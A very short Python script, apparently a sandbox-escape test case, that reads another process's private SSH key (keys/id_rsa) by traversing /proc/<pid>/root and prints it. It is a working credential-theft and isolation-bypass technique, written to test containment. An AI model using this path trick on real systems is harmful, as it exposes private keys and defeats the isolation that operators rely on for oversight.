"""Read a key by way of another process's root."""

from world import OUTSIDE, VICTIM

print(open(f"/proc/{VICTIM}/root{OUTSIDE}/keys/id_rsa").read())
